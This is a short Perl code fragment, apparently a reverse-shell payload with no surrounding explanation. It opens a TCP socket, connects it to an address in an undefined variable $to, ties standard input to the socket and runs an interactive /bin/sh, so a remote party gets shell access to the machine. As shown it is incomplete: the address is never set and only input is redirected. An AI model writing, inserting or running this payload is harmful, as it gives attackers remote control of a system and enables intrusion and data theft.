use Socket;
socket(S, PF_INET, SOCK_STREAM, 6);
connect(S, $to);
open(STDIN, ">&S");
exec("/bin/sh -i");
